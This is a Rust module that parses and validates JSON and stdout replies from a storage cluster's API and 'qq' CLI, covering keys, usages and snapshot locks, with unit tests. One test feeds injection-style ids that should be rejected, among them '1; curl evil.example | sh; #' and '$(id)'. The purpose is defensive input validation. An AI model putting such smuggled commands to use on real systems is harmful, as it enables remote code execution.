//! Pure parsers of replies: of the REST API, and of `qq` on stdout. Unknown fields are ignored.

use std::{collections::BTreeMap, fmt, marker::PhantomData};

use serde::{
    Deserialize, Deserializer,
    de::{self, DeserializeOwned, IgnoredAny, MapAccess, SeqAccess, Visitor},
};

use super::{NewKey, Replacement, Snapshot, StoredKey, Usage};
use crate::text::size;

#[derive(Deserialize)]
struct KeyReply {
    id: Id,
    name: String,
    #[serde(default)]
    comment: String,
    #[serde(default)]
    disabled: bool,
    public_key: String,
}

#[derive(Deserialize)]
struct KeysReply {
    entries: Entries<KeyReply, { KEY_LIST.entries }>,
    #[serde(default)]
    paging: Paging,
}

#[derive(Deserialize)]
struct UsagesPage {
    usages: UsageEntries,
    #[serde(default)]
    paging: Paging,
}

/// Empty on the last page.
#[derive(Default, Deserialize)]
struct Paging {
    #[serde(default)]
    next: Option<String>,
}

impl Paging {
    fn next(self) -> Option<String> {
        self.next.filter(|next| !next.is_empty())
    }
}

/// An error of the REST API.
#[derive(Deserialize)]
struct ErrorReply {
    error_class: String,
    #[serde(default)]
    description: String,
    inner: Option<Box<ErrorReply>>,
}

/// A list, or by kind in 6.1.0.x. An untagged enum would buffer all of it twice.
struct UsagesReply(UsageEntries);

impl<'de> Deserialize<'de> for UsagesReply {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        #[derive(Deserialize)]
        struct ByKind {
            snapshots: Entries<Id, { USAGES.entries }>,
            snapshot_policies: Entries<Id, { USAGES.entries }>,
        }

        struct Usages;

        impl<'de> Visitor<'de> for Usages {
            type Value = UsagesReply;

            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("a list of usages")
            }

            fn visit_seq<A: SeqAccess<'de>>(self, list: A) -> Result<UsagesReply, A::Error> {
                let list = de::value::SeqAccessDeserializer::new(list);
                UsageEntries::deserialize(list).map(UsagesReply)
            }

            fn visit_map<A: MapAccess<'de>>(self, map: A) -> Result<UsagesReply, A::Error> {
                let by_kind = ByKind::deserialize(de::value::MapAccessDeserializer::new(map))?;
                let of_kind = |kind: &'static str, ids: Entries<_, _>| {
                    let usage = move |Id(id)| UsageReply {
                        kind: kind.to_owned(),
                        id,
                    };
                    (ids.list.into_iter().map(usage), ids.more)
                };
                let (snapshots, more) = of_kind("snapshot", by_kind.snapshots);
                let (policies, still_more) = of_kind("snapshot_policy", by_kind.snapshot_policies);
                Ok(UsagesReply(Entries {
                    list: snapshots.chain(policies).collect(),
                    more: more || still_more,
                }))
            }
        }

        deserializer.deserialize_any(Usages)
    }
}

type UsageEntries = Entries<UsageReply, { USAGES.entries }>;

#[derive(Deserialize)]
#[serde(try_from = "AnyUsage")]
struct UsageReply {
    kind: String,
    id: String,
}

#[derive(Deserialize)]
struct AnyUsage {
    #[serde(rename = "type")]
    kind: String,
    id: TextOrNumber,
}

impl TryFrom<AnyUsage> for UsageReply {
    type Error = InvalidId;

    fn try_from(AnyUsage { kind, id }: AnyUsage) -> Result<Self, InvalidId> {
        let id = match (kind.as_str(), id) {
            ("snapshot" | "snapshot_policy", id) => Id::try_from(id)?.0,
            // A replication target has a UUID; kinds that a later version adds may have anything.
            (_, TextOrNumber(text)) if is_word(&text) => text,
            _ => return Err(InvalidId),
        };
        Ok(Self { kind, id })
    }
}

#[derive(Deserialize)]
struct ChallengeReply {
    challenge: String,
}

#[derive(Deserialize)]
struct SnapshotReply {
    id: u64,
    #[serde(default)]
    name: String,
    #[serde(default)]
    source_file_path: String,
    #[serde(default)]
    timestamp: String,
    #[serde(default)]
    expiration: Option<String>,
    // No default: a reply without this field must not read as "not locked".
    #[serde(deserialize_with = "optional_id")]
    lock_key: Option<String>,
}

#[derive(Deserialize)]
struct StatusesReply {
    entries: Entries<StatusReply, { SNAPSHOTS.entries }>,
    #[serde(default)]
    paging: Paging,
}

/// The part of a snapshot that says whether it is locked.
#[derive(Deserialize)]
struct StatusReply {
    id: u64,
    #[serde(deserialize_with = "optional_id")]
    lock_key: Option<String>,
}

/// Text, or a number taken as text.
struct TextOrNumber(String);

impl<'de> Deserialize<'de> for TextOrNumber {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        struct Either;

        impl Visitor<'_> for Either {
            type Value = TextOrNumber;

            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("text or a number")
            }

            fn visit_str<E>(self, text: &str) -> Result<TextOrNumber, E> {
                Ok(TextOrNumber(text.to_owned()))
            }

            fn visit_u64<E>(self, number: u64) -> Result<TextOrNumber, E> {
                Ok(TextOrNumber(number.to_string()))
            }
        }

        deserializer.deserialize_any(Either)
    }
}

/// The id of a key, a snapshot or a policy: digits, as a string or a number. Ids go into URLs and into
/// commands that users copy, so nothing else is accepted.
#[derive(Deserialize)]
#[serde(try_from = "TextOrNumber")]
struct Id(String);

/// The digits of a 64-bit number.
const LONGEST_ID: usize = 20;

/// More than twice the length of a UUID.
const LONGEST_WORD: usize = 80;

/// The id itself stays out of the message.
#[derive(Debug, thiserror::Error)]
#[error("invalid id")]
struct InvalidId;

impl TryFrom<TextOrNumber> for Id {
    type Error = InvalidId;

    fn try_from(TextOrNumber(text): TextOrNumber) -> Result<Self, InvalidId> {
        let is_id =
            (1..=LONGEST_ID).contains(&text.len()) && text.bytes().all(|b| b.is_ascii_digit());
        match is_id {
            true => Ok(Self(text)),
            false => Err(InvalidId),
        }
    }
}

/// The first `MAX` entries of a list; the rest are read and dropped.
struct Entries<T, const MAX: usize> {
    list: Vec<T>,
    /// Whether there were more.
    more: bool,
}

impl<'de, T: Deserialize<'de>, const MAX: usize> Deserialize<'de> for Entries<T, MAX> {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        struct List<T, const MAX: usize>(PhantomData<T>);

        impl<'de, T: Deserialize<'de>, const MAX: usize> Visitor<'de> for List<T, MAX> {
            type Value = Entries<T, MAX>;

            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("a list")
            }

            fn visit_seq<A: SeqAccess<'de>>(self, mut entries: A) -> Result<Self::Value, A::Error> {
                let mut list = Vec::new();
                while list.len() < MAX {
                    match entries.next_element()? {
                        Some(entry) => list.push(entry),
                        None => return Ok(Entries { list, more: false }),
                    }
                }
                let mut more = false;
                while entries.next_element::<IgnoredAny>()?.is_some() {
                    more = true;
                }
                Ok(Entries { list, more })
            }
        }

        deserializer.deserialize_seq(List(PhantomData))
    }
}

fn is_word(text: &str) -> bool {
    let allowed = |b: u8| b.is_ascii_alphanumeric() || b"-._".contains(&b);
    (1..=LONGEST_WORD).contains(&text.len()) && !text.starts_with('-') && text.bytes().all(allowed)
}

fn optional_id<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Option<String>, D::Error> {
    Ok(Option::<Id>::deserialize(deserializer)?.map(|id| id.0))
}

impl From<KeyReply> for StoredKey {
    fn from(reply: KeyReply) -> Self {
        Self {
            id: reply.id.0,
            name: reply.name,
            comment: reply.comment,
            disabled: reply.disabled,
            public_key: reply.public_key,
        }
    }
}

impl From<UsageReply> for Usage {
    fn from(reply: UsageReply) -> Self {
        Self {
            kind: reply.kind,
            id: reply.id,
        }
    }
}

/// The maximum size of a reply: no cluster may exhaust the memory of this machine.
#[derive(Clone, Copy, Debug)]
pub struct Limit {
    what: &'static str,
    pub bytes: usize,
    /// In a list.
    pub entries: usize,
}

/// A key, a challenge, a status, an error.
pub const SINGLE: Limit = Limit {
    what: "the reply",
    bytes: 256 << 10,
    entries: 1,
};

/// Some 300 bytes each.
pub const KEY_LIST: Limit = Limit {
    what: "the key list",
    bytes: 8 << 20,
    entries: 20_000,
};

/// A cluster has 40,000 snapshots at most, and a usage takes 80 bytes.
pub const USAGES: Limit = Limit {
    what: "the list of what a key protects",
    bytes: 4 << 20,
    entries: 50_000,
};

/// A cluster has 40,000 snapshots at most, and a status takes some 500 bytes as `qq` prints it.
pub const SNAPSHOTS: Limit = Limit {
    what: "the list of snapshots",
    bytes: 32 << 20,
    entries: 100_000,
};

/// The maximum length of a text in a reply, in bytes.
const TEXT_LIMIT: usize = 64 << 10;

/// How much of another program's message is shown, in characters.
const WORDS_LIMIT: usize = 2_000;

impl Limit {
    /// The message for a reply with more bytes.
    pub fn exceeded(self) -> String {
        format!("{} is larger than {}", self.what, size(self.bytes))
    }

    /// The error for a list with more entries.
    pub fn too_many(self) -> NotAReply {
        let words = format!("{} has more than {} entries", self.what, self.entries);
        NotAReply::too_large(words)
    }
}

/// A reply that is not the expected one.
#[derive(Debug, PartialEq, Eq)]
pub struct NotAReply {
    /// The expected reply.
    pub expected: &'static str,
    /// What is wrong with the reply, if it is JSON.
    pub why: Option<String>,
    /// What is too large in the reply.
    pub too_large: Option<String>,
}

impl NotAReply {
    fn new(expected: &'static str) -> Self {
        Self {
            expected,
            why: None,
            too_large: None,
        }
    }

    fn too_large(words: String) -> Self {
        Self {
            too_large: Some(words),
            ..Self::new("a reply of the usual size")
        }
    }
}

/// The expected reply, and what is wrong.
impl fmt::Display for NotAReply {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.why {
            Some(why) => write!(f, "{} ({why})", self.expected),
            None => f.write_str(self.expected),
        }
    }
}

/// A page of a list.
pub struct Page<T> {
    pub entries: Vec<T>,
    /// The path or URL of the next page.
    pub next: Option<String>,
}

fn json<T: DeserializeOwned>(reply: &[u8], expected: &'static str) -> Result<T, NotAReply> {
    serde_json::from_slice(reply).map_err(|error| NotAReply {
        why: error.is_data().then(|| shortened(&error.to_string())),
        ..NotAReply::new(expected)
    })
}

/// The beginning of another program's message.
pub(super) fn shortened(words: &str) -> String {
    match words.char_indices().nth(WORDS_LIMIT) {
        Some((end, _)) => format!("{}…", &words[..end]),
        None => words.to_owned(),
    }
}

/// # Errors
/// When a text is too long.
fn check_texts(texts: &[&str]) -> Result<(), NotAReply> {
    match texts.iter().all(|text| text.len() <= TEXT_LIMIT) {
        true => Ok(()),
        false => Err(NotAReply::too_large(format!(
            "a text in the reply is longer than {}",
            size(TEXT_LIMIT)
        ))),
    }
}

impl StoredKey {
    fn check_size(&self) -> Result<(), NotAReply> {
        check_texts(&[&self.id, &self.name, &self.comment, &self.public_key])
    }
}

impl Usage {
    fn check_size(&self) -> Result<(), NotAReply> {
        check_texts(&[&self.kind, &self.id])
    }
}

/// # Errors
/// When there are too many.
fn usages(reply: UsageEntries) -> Result<Vec<Usage>, NotAReply> {
    if reply.more {
        return Err(USAGES.too_many());
    }
    let usages: Vec<Usage> = reply.list.into_iter().map(Into::into).collect();
    usages.iter().try_for_each(Usage::check_size)?;
    Ok(usages)
}

const KEYS: &str = "a list of keys in JSON";
const KEY: &str = "the key in JSON";
const SNAPSHOT: &str = "the snapshot's status in JSON";
const USAGES_IN_JSON: &str = "a list of usages in JSON";

/// `fs_security_list_keys --json`.
pub fn keys(stdout: &[u8]) -> Result<Vec<StoredKey>, NotAReply> {
    keys_page(stdout).map(|page| page.entries)
}

/// `GET /v1/file-system/security/keys/`.
pub fn keys_page(body: &[u8]) -> Result<Page<StoredKey>, NotAReply> {
    let reply: KeysReply = json(body, KEYS)?;
    if reply.entries.more {
        return Err(KEY_LIST.too_many());
    }
    let keys: Vec<StoredKey> = reply.entries.list.into_iter().map(Into::into).collect();
    keys.iter().try_for_each(StoredKey::check_size)?;
    Ok(Page {
        entries: keys,
        next: reply.paging.next(),
    })
}

/// `GET /v1/file-system/security/keys/{ref}/usages`.
pub fn usages_page(body: &[u8]) -> Result<Page<Usage>, NotAReply> {
    let reply: UsagesPage = json(body, USAGES_IN_JSON)?;
    Ok(Page {
        entries: usages(reply.usages)?,
        next: reply.paging.next(),
    })
}

/// `fs_security_add_key --json`. A reply about another key is rejected.
pub fn added_key(stdout: &[u8], key: &NewKey<'_>) -> Result<(), NotAReply> {
    let stored = stored_key(stdout)?;
    expect_about(stored.name == key.name && stored.holds(key.public_key), KEY)
}

/// `fs_security_replace_key --json`. A reply about another key is rejected.
pub fn replaced_key(
    stdout: &[u8],
    key_id: &str,
    replacement: &Replacement<'_>,
) -> Result<(), NotAReply> {
    let stored = stored_key(stdout)?;
    expect_about(
        stored.id == key_id && stored.holds(replacement.new_key),
        KEY,
    )
}

fn stored_key(stdout: &[u8]) -> Result<StoredKey, NotAReply> {
    let key: StoredKey = json::<KeyReply>(stdout, KEY)?.into();
    key.check_size()?;
    Ok(key)
}

/// Replies can be shifted on a connection, and proxies can mix them up.
fn expect_about(is_about: bool, expected: &'static str) -> Result<(), NotAReply> {
    match is_about {
        true => Ok(()),
        false => Err(NotAReply {
            why: Some("it is about another object".to_owned()),
            ..NotAReply::new(expected)
        }),
    }
}

/// `fs_security_get_key_usage --json`.
pub fn usage(stdout: &[u8]) -> Result<Vec<Usage>, NotAReply> {
    let reply: UsagesReply = json(stdout, USAGES_IN_JSON)?;
    usages(reply.0)
}

/// `fs_security_get_key_replace_challenge`, `snapshot_get_unlock_challenge`.
pub fn challenge(stdout: &[u8]) -> Result<String, NotAReply> {
    let expected = "a challenge in JSON";
    let reply: ChallengeReply = json(stdout, expected)?;
    check_texts(&[&reply.challenge])?;
    match reply.challenge.is_empty() {
        true => Err(NotAReply::new(expected)),
        false => Ok(reply.challenge),
    }
}

/// `snapshot_get_status`. A reply about another snapshot is rejected.
pub fn snapshot(stdout: &[u8], id: u64) -> Result<Snapshot, NotAReply> {
    let reply: SnapshotReply = json(stdout, SNAPSHOT)?;
    expect_about(reply.id == id, SNAPSHOT)?;
    let snapshot = Snapshot {
        id: reply.id,
        name: reply.name,
        source_file_path: reply.source_file_path,
        timestamp: reply.timestamp,
        expiration: reply.expiration.unwrap_or_default(),
        lock_key: reply.lock_key,
    };
    check_texts(&[
        &snapshot.name,
        &snapshot.source_file_path,
        &snapshot.timestamp,
        &snapshot.expiration,
        snapshot.lock_key.as_deref().unwrap_or_default(),
    ])?;
    Ok(snapshot)
}

/// `snapshot_list_statuses`, `GET /v4/snapshots/status/`: the ids of those that are not locked.
pub fn unlocked_page(body: &[u8]) -> Result<Page<u64>, NotAReply> {
    let reply: StatusesReply = json(body, "a list of snapshots in JSON")?;
    if reply.entries.more {
        return Err(SNAPSHOTS.too_many());
    }
    let unlocked = |status: &StatusReply| status.lock_key.is_none();
    Ok(Page {
        entries: reply
            .entries
            .list
            .into_iter()
            .filter(unlocked)
            .map(|status| status.id)
            .collect(),
        next: reply.paging.next(),
    })
}

/// `POST …/lock`, `POST …/unlock`: an empty body, or JSON with nothing in it.
pub fn nothing(body: &[u8]) -> Result<(), NotAReply> {
    let empty = match body.trim_ascii() {
        b"" => true,
        json => serde_json::from_slice::<Option<BTreeMap<String, IgnoredAny>>>(json)
            .is_ok_and(|fields| fields.is_none_or(|fields| fields.is_empty())),
    };
    match empty {
        true => Ok(()),
        false => Err(NotAReply::new("an empty reply")),
    }
}

/// An error of the REST API as `qq` prints it: `class: description`, with those of an inner error in
/// parentheses. `None` for anything else.
pub fn api_error(body: &[u8]) -> Option<String> {
    fn words(error: ErrorReply) -> String {
        let outer = format!("{}: {}", error.error_class, error.description);
        match error.inner {
            Some(inner) => format!("{outer} ({})", words(*inner)),
            None => outer,
        }
    }
    let error = serde_json::from_slice(body).ok()?;
    Some(shortened(&words(error)))
}

/// `snapshot_unlock_snapshot`: `Snapshot N is unlocked.`
pub fn unlocked(stdout: &[u8], id: u64) -> Result<(), NotAReply> {
    let sentence = format!("Snapshot {id} is unlocked.");
    done(stdout, &sentence, "the sentence that it is unlocked")
}

/// `snapshot_lock_snapshot`: `Snapshot N is locked with lock key REF.`
pub fn locked(stdout: &[u8], id: u64) -> Result<(), NotAReply> {
    let sentence = format!("Snapshot {id} is locked ");
    done(stdout, &sentence, "the sentence that it is locked")
}

/// A line that begins with this sentence; in 6.1.0.x the empty reply of the REST API, `null`.
fn done(stdout: &[u8], sentence: &str, expected: &'static str) -> Result<(), NotAReply> {
    let text = String::from_utf8_lossy(stdout);
    let said = text.lines().any(|line| line.starts_with(sentence));
    match said || text.trim() == "null" {
        true => Ok(()),
        false => Err(NotAReply::new(expected)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::public_key::PublicKey;

    #[test]
    fn challenge_is_byte_exact() {
        let stdout = br#"{"challenge": "a\"\\\n \ud83d\udd11 \u00e9 "}"#;
        assert_eq!(challenge(stdout).unwrap(), "a\"\\\n 🔑 é ");
        assert!(challenge(br#"{"challenge": ""}"#).is_err());
        assert!(challenge(br#"{"challenge": "a"#).is_err());
    }

    #[test]
    fn usages_parse_in_both_forms() {
        let usage_of = |kind: &str, id: &str| Usage {
            kind: kind.to_owned(),
            id: id.to_owned(),
        };
        let new =
            br#"[{"type": "snapshot", "id": "7"}, {"type": "replication_target", "id": "x"}]"#;
        assert_eq!(
            usage(new).unwrap(),
            [
                usage_of("snapshot", "7"),
                usage_of("replication_target", "x")
            ]
        );
        let old = br#"{"snapshot_policies": ["3"], "snapshots": [7]}"#;
        assert_eq!(
            usage(old).unwrap(),
            [usage_of("snapshot", "7"), usage_of("snapshot_policy", "3")]
        );
    }

    #[test]
    fn empty_stdout_does_not_confirm_submission() {
        assert!(unlocked(b"Snapshot 7 is unlocked.\n", 7).is_ok());
        assert!(locked(b"null\n", 7).is_ok());
        assert!(unlocked(b"", 7).is_err());
        assert!(locked(b"\n", 7).is_err());
    }

    #[test]
    fn reply_about_another_id_is_rejected() {
        assert!(unlocked(b"Snapshot 77 is unlocked.\n", 7).is_err());
        assert!(locked(b"Snapshot 8 is locked with lock key 1.\n", 7).is_err());
        let status = br#"{"id": 8, "lock_key": null}"#;
        assert!(snapshot(status, 8).is_ok());
        assert!(snapshot(status, 7).is_err());

        let key = crate::keyfile::PrivateKey::generate();
        let (public_key, signature) = (key.public_key(), key.sign(b"lock"));
        let body = |id: &str, name: &str, public_key: &PublicKey| {
            serde_json::json!({ "id": id, "name": name, "public_key": public_key.to_base64() })
                .to_string()
        };
        let new = NewKey {
            name: "lock",
            comment: "",
            public_key: &public_key,
            signature: &signature,
        };
        let replacement = Replacement {
            new_key: &public_key,
            old_signature: &signature,
            new_signature: &signature,
        };
        let other = crate::keyfile::PrivateKey::generate().public_key();
        let added = |body: String| added_key(body.as_bytes(), &new).is_ok();
        let replaced = |body: String| replaced_key(body.as_bytes(), "1", &replacement).is_ok();
        assert!(added(body("1", "lock", &public_key)));
        assert!(!added(body("1", "look", &public_key)));
        assert!(!added(body("1", "lock", &other)));
        assert!(replaced(body("1", "any", &public_key)));
        assert!(!replaced(body("2", "any", &public_key)));
        assert!(!replaced(body("1", "any", &other)));
    }

    #[test]
    fn lock_key_is_required() {
        let parse = |lock: &str| snapshot(format!(r#"{{"id": 7{lock}}}"#).as_bytes(), 7);
        let lock_key = |lock: &str| parse(lock).unwrap().lock_key;
        assert_eq!(lock_key(r#", "lock_key": "2""#).as_deref(), Some("2"));
        assert_eq!(lock_key(r#", "lock_key": 2"#).as_deref(), Some("2"));
        assert_eq!(lock_key(r#", "lock_key": null"#), None);
        assert!(parse("").is_err());
    }

    #[test]
    fn ids_are_digits() {
        let key = |id: &str| {
            stored_key(format!(r#"{{"id": {id}, "name": "a", "public_key": "b"}}"#).as_bytes())
        };
        let snapshot =
            |id: &str| snapshot(format!(r#"{{"id": 7, "lock_key": {id}}}"#).as_bytes(), 7);
        let usage = |kind: &str, id: &str| {
            usage(format!(r#"[{{"type": "{kind}", "id": {id}}}]"#).as_bytes())
        };
        for id in ["\"1\"", "1", "\"18446744073709551615\""] {
            assert_eq!(key(id).unwrap().id, id.trim_matches('"'));
            assert!(snapshot(id).is_ok());
            assert!(usage("snapshot", id).is_ok());
        }
        for id in [
            "\"\"",
            "\"1; curl evil.example | sh; #\"",
            "\"$(id)\"",
            "\"-1\"",
            "\"+1\"",
            "\" 1\"",
            "\"1\\n\"",
            "\"\\u0661\"",
            "\"0x1\"",
            "\"../1\"",
            "\"\\u001b[2J\"",
            "\"111111111111111111111\"",
            "-1",
            "1.5",
            "true",
            "[]",
        ] {
            assert!(key(id).is_err(), "{id}");
            assert!(snapshot(id).is_err(), "{id}");
            assert!(usage("snapshot", id).is_err(), "{id}");
            assert!(usage("snapshot_policy", id).is_err(), "{id}");
        }
        assert_eq!(
            key("\"1; evil\"").unwrap_err().to_string(),
            "the key in JSON (invalid id at line 1 column 16)"
        );
        assert!(usage("replication_target", "\"0a1b-2c3d\"").is_ok());
        for id in ["\"\"", "\"a b\"", "\"$(id)\"", "\"-rf\"", "\"a/b\""] {
            assert!(usage("replication_target", id).is_err(), "{id}");
        }
    }

    #[test]
    fn missing_field_is_named_and_unknown_one_ignored() {
        let key = br#"{"id": "1", "name": "a", "public_key": "b", "new": {"x": [1]}}"#;
        assert_eq!(stored_key(key).unwrap().name, "a");
        let wrong = stored_key(br#"{"id": "1", "name": "a"}"#).unwrap_err();
        assert!(
            wrong
                .to_string()
                .starts_with("the key in JSON (missing field `public_key`")
        );
        let wrong = stored_key(b"<html>").unwrap_err();
        assert_eq!(wrong.to_string(), "the key in JSON");
    }

    #[test]
    fn next_page_is_optional() {
        let next = |paging: &str| {
            let body = format!(r#"{{"usages": [{{"type": "snapshot", "id": 7}}]{paging}}}"#);
            usages_page(body.as_bytes()).unwrap().next
        };
        assert_eq!(next(""), None);
        assert_eq!(next(r#", "paging": {"next": ""}"#), None);
        assert_eq!(next(r#", "paging": {"next": null}"#), None);
        assert_eq!(
            next(r#", "paging": {"next": "/a?b"}"#).as_deref(),
            Some("/a?b")
        );
        assert!(usages_page(b"{}").is_err());
    }

    #[test]
    fn lock_reply_must_be_empty() {
        for done in [&b""[..], b" \r\n", b"null", b"{}"] {
            assert!(nothing(done).is_ok());
        }
        for wrong in [
            &b"{"[..],
            b"<html>",
            b"Unlocked.",
            b"[]",
            br#"{"error_class": "x"}"#,
        ] {
            assert!(nothing(wrong).is_err());
        }
    }

    #[test]
    fn api_error_reads_as_qq_prints_it() {
        let body = br#"{"module": "m", "error_class": "outer_error", "description": "Outer.",
            "stack": [], "user_visible": true,
            "inner": {"error_class": "inner_error", "description": "Inner."}}"#;
        assert_eq!(
            api_error(body).unwrap(),
            "outer_error: Outer. (inner_error: Inner.)"
        );
        assert_eq!(api_error(b"<html>"), None);
        assert_eq!(api_error(br#"{"error": "x"}"#), None);
    }
}
